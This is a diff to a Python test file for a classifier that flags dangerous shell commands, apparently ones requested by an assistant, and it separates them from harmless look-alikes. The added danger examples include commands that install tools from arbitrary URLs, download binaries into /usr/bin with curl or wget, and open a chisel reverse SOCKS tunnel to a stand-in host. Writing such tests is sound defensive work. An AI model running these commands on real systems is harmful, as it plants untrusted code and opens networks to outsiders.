@@ -67,6 +67,15 @@ DANGEROUS = {
         "emacs -nw --eval '(ansi-term \"/bin/zsh\")'", "run-parts --regex '^(ba)?sh$' /usr/bin",
         "sudo run-parts /usr/sbin",
     ],
+    "a tool installed from an address, a program fetched over http into the PATH": [
+        "uv tool install https://example.org/pkg.whl",
+        "dotnet tool install --global --add-source https://feed.example.net/v3/index.json My.T",
+        "sudo curl -o /usr/local/bin/helper http://mirror.example.net/helper",
+        "wget -O /usr/bin/jq 198.51.100.7/jq",
+    ],
+    "a reverse SOCKS proxy into this machine's network": [
+        "chisel client https://tunnel.example.org R:1080:socks",
+    ],
 }
 
 HARMLESS = [
@@ -88,6 +97,11 @@ HARMLESS = [
     "python3 -c 'print(\"reboot later\")'", "perl -e 'open F, \"<\", \"/dev/sda\"; read F, $b, 9'",
     "perl -e 'open F, \"</etc/hostname\"; print <F>'", "perl -e 'open F, \">\", \"out.txt\"'",
     "systemctl suspend", "sudo grubby --update-kernel=ALL --args quiet",
+    "uv tool install ruff", "dotnet tool install -g dotnet-ef", "pipx install black",
+    "curl -L https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl -o /usr/local/bin/kubectl",
+    "curl -sL http://example.org/notes.txt | tee ./notes.txt",
+    "curl http://203.0.113.4/data.json -o /tmp/data.json", "chisel client 203.0.113.5:8000 3000",
+    "chisel server --reverse --port 8000", "chisel client 203.0.113.5:8000 socks",
     "sudo groupmems -g sudo -l", "sudo groupmems -g video -a tester",
     "echo '0 3 * * * /usr/local/bin/backup.sh' | sudo tee -a /var/spool/cron/crontabs/root",
     "sudo cp ./logrotate-extra /etc/cron.daily/logrotate-extra", "sudo mv /etc/cron.daily/x /root/",
@@ -96,9 +110,6 @@ HARMLESS = [
     "run-parts --test /etc/cron.daily",
     "run-parts --list --regex '^sh$' /bin",
     "sudo sed -i 's/quiet splash/quiet/' /etc/default/grub", "grep systemd.unit /etc/default/grub",
-]
-
-AUTO_RUN: list[tuple[str, list[str]]] = [
 ]
 
 
@@ -111,9 +122,3 @@ def test_each_class_needs_typing_however_spelled(family: str, command: str) -> N
 @pytest.mark.parametrize("command", HARMLESS)
 def test_look_alikes_stay_quiet(command: str) -> None:
     assert danger_reasons(command) == []
-
-
-@pytest.mark.parametrize(("command", "rules"), AUTO_RUN)
-def test_allow_rules_never_auto_run_these(command: str, rules: list[str]) -> None:
-    assert decide(command, "assistant", rules, sandboxed=True).approval \
-        is Approval.TYPED_CONFIRMATION
